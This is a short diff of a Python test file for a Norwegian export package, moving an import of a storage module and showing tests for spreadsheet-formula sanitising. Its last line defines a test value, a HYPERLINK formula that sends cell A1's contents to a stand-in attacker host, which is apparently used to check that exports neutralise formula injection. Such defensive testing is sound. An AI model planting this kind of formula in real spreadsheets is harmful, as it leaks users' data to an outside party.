@@ -12,8 +12,9 @@ import pytest
 from openpyxl import load_workbook
 from pptx import Presentation
 
-from kompetanse import export, store
+from kompetanse import export
 from kompetanse.export.safe_cells import FORMULA_PREFIXES, csv_cell
+from kompetanse.storage import store
 from tests.fixtures import demo_copy
 
 HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")'
